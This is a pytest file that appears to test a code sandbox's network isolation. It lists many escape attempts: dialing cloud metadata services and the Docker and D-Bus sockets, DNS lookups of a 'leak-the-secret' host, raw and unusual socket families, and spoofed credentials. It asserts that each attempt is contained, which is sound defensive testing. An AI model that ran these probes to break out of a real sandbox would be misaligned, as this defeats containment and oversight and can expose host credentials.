"""Ways to the network and to other processes' sockets where no network is declared.

Attacks on the egress proxy itself (a declared host that leads elsewhere) are in `runtime/proxy`.
"""

from __future__ import annotations

import os
import socket

import pytest
from support.escapes import Arena, Attack, attack

pytestmark = pytest.mark.sandbox

_ABSTRACT = f"codex32-escape-{os.getpid()}"


def dial(address: str, port: int = 80, *, family: str = "AF_INET") -> Attack:
    code = f"""
        import socket
        with socket.socket(socket.{family}) as way:
            way.settimeout(3)
            way.connect(({address!r}, {port}))
    """
    return attack(f"dial {address}:{port}", code, also="EADDRNOTAVAIL ECONNREFUSED")


def opened(name: str, family: int, kind: str = "SOCK_RAW", protocol: int = 0) -> Attack:
    return attack(name, f"import socket; socket.socket({family}, socket.{kind}, {protocol})", by="seccomp")


ADDRESSES = [
    dial("1.1.1.1", 53),
    dial("169.254.169.254"),
    dial("100.100.100.200"),
    dial("168.63.129.16"),
    dial("192.168.0.1"),
    dial("172.17.0.1", 2375),
    dial("10.0.0.1", 443),
    dial("10.96.0.1", 443),
    dial("127.0.0.1", 5432),
    dial("127.0.0.1", 8032),
    dial("127.1", 22),
    dial("0", 22),
    dial("0x7f000001", 22),
    dial("2130706433", 22),
    dial("fd00:ec2::254", 80, family="AF_INET6"),
    dial("::1", 5432, family="AF_INET6"),
    dial("::ffff:169.254.169.254", 80, family="AF_INET6"),
    dial("64:ff9b::a9fe:a9fe", 80, family="AF_INET6"),
    attack("resolve a name", """
        import socket
        try: socket.getaddrinfo('leak-the-secret.example.com', 80)
        except socket.gaierror: contained('there is nobody to ask')
    """),
    attack("ask a name server", """
        import socket
        way = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        way.sendto(b'x' * 30, ('8.8.8.8', 53))
    """),
    attack("UDP to the metadata service", """
        import socket
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('169.254.169.254', 80))
    """),
    attack("UDP over IPv6", """
        import socket
        socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'x', ('2001:4860:4860::8888', 53))
    """, also="EADDRNOTAVAIL"),
    attack("multicast", """
        import socket
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('224.0.0.251', 5353))
    """),
    attack("broadcast", """
        import socket
        way = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        way.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        way.sendto(b'x', ('255.255.255.255', 9))
    """),
    attack("TCP fast open", """
        import socket
        socket.socket().sendto(b'x', 0x20000000, ('1.1.1.1', 80))
    """, also="EOPNOTSUPP"),
    attack("multipath TCP", "import socket; socket.socket(2, 1, 262).connect(('1.1.1.1', 80))"),
    attack("SCTP", "import socket; socket.socket(2, 1, 132).connect(('1.1.1.1', 80))"),
    attack("listen on a port", "import socket; socket.socket().bind(('0.0.0.0', 8032)); contained('on a loopback of its own')", by="landlock"),
    attack("interfaces", """
        names = [line.split(':')[0].strip() for line in open('/proc/net/dev').readlines()[2:]]
        if names == ['lo']: contained('loopback only')
    """),
    attack("routes", "len(open('/proc/net/route').readlines()) > 1 or contained('none')"),
    attack("connections of the host", """
        rows = [line.split() for line in open('/proc/net/tcp').readlines()[1:]]
        if all(row[1][6:8] == '7F' and row[3] == '0A' for row in rows): contained('its own forwarder at most')
    """),
    attack("sockets of the host", """
        paths = [line.split()[7:] for line in open('/proc/net/unix').readlines()[1:]]
        if not any(paths): contained('none with a name')
    """),
    attack("bind to an interface", """
        import socket
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b'eth0')
    """),
    attack("bring an interface up", """
        import fcntl, socket, struct
        fcntl.ioctl(socket.socket(), 0x8914, struct.pack('16sH22x', b'lo', 1))
    """),
]  # fmt: skip

FAMILIES = [
    opened("kernel crypto", 38, "SOCK_SEQPACKET"),
    opened("netlink", 16),
    opened("netlink of netfilter", 16, protocol=12),
    opened("netlink of audit", 16, protocol=9),
    opened("packets", 17),
    opened("packets of user space", 17, "SOCK_DGRAM"),
    opened("virtual machine sockets", 40, "SOCK_STREAM"),
    opened("Bluetooth", 31, protocol=1),
    opened("CAN bus", 29),
    opened("TIPC", 30, "SOCK_SEQPACKET"),
    opened("RDS", 21, "SOCK_SEQPACKET"),
    opened("express data path", 44),
    opened("SMC", 43, "SOCK_STREAM"),
    opened("key management", 15, protocol=2),
    attack("family with dirty high bits", "call('socket', 0x100000026, 5, 0)", by="seccomp"),
    attack("raw ICMP", "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)"),
    attack("raw packets with own headers", "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 255)"),
    attack("ping", """
        import socket
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).sendto(b'\\x08\\0\\0\\0\\0\\0\\0\\0', ('1.1.1.1', 0))
    """),
    attack("pair of network sockets", "import socket; socket.socketpair(socket.AF_INET, socket.SOCK_STREAM)",
           also="EOPNOTSUPP ENOTSUP"),
    attack("abstract socket of the host", f"""
        import socket
        socket.socket(socket.AF_UNIX).connect('\\0{_ABSTRACT}')
    """, also="ECONNREFUSED"),
    attack("datagram to an abstract socket of the host", f"""
        import socket
        socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'x', '\\0{_ABSTRACT}')
    """, also="ECONNREFUSED"),
    attack("socket of docker", "import socket; socket.socket(socket.AF_UNIX).connect('/var/run/docker.sock')"),
    attack("socket of the system bus", "import socket; socket.socket(socket.AF_UNIX).connect('/run/dbus/system_bus_socket')"),
    attack("socket through a descriptor's path", """
        import socket
        socket.socket(socket.AF_UNIX).connect('/proc/1/root/run/systemd/private')
    """),
    attack("credentials of somebody else", """
        import array, socket, struct
        a, b = socket.socketpair()
        b.setsockopt(socket.SOL_SOCKET, socket.SO_PASSCRED, 1)
        a.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_CREDENTIALS, struct.pack('3i', 1, 0, 0))])
    """, also="EINVAL"),
    attack("descriptors to the platform", """
        import array, socket, stat
        for fd in range(3, 64):
            try:
                if not stat.S_ISSOCK(os.fstat(fd).st_mode): continue
            except OSError: continue
            way = socket.socket(fileno=os.dup(fd))
            frame = b'{"v":1,"kind":"log","level":"info","text":"x"}\\n'
            handed = array.array('i', [os.open('/bot', os.O_RDONLY) for _ in range(100)])
            way.sendmsg([len(frame).to_bytes(4, 'big') + frame], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, handed)])
        contained('the other end takes none')
    """),
]  # fmt: skip


@pytest.mark.parametrize("one", ADDRESSES, ids=str)
async def test_addresses(arena: Arena, one: Attack) -> None:
    assert await arena.broken_by(ADDRESSES, one) == []


@pytest.mark.parametrize("one", FAMILIES, ids=str)
async def test_sockets(arena: Arena, one: Attack) -> None:
    with (
        socket.socket(socket.AF_UNIX) as stream,
        socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as datagram,
    ):
        stream.bind(f"\0{_ABSTRACT}")
        stream.listen()
        stream.setblocking(False)
        assert await arena.broken_by(FAMILIES, one) == []
        with pytest.raises(BlockingIOError):
            stream.accept()
        datagram.close()
